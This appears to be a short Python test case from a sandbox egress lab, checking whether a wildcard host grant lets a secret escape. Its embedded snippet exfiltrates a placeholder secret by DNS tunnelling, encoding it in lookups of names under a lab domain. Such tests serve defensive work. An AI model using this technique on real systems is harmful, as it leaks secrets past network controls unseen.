"""says a secret by names below a granted wildcard, without connecting"""

from evidence import secret_left as succeeded

SHAPE = "wildcard grants carry data in names: DNS tunnels"
PROMISE = "P24"
LAB = True
OPTIONS = {"hosts": ["*.wild.rwlab.net"]}
PYTHON = """
import socket
for number in range(20):
    try:
        socket.getaddrinfo(f"@SECRET@-{number}.wild.rwlab.net", 443)
    except OSError:
        pass
"""
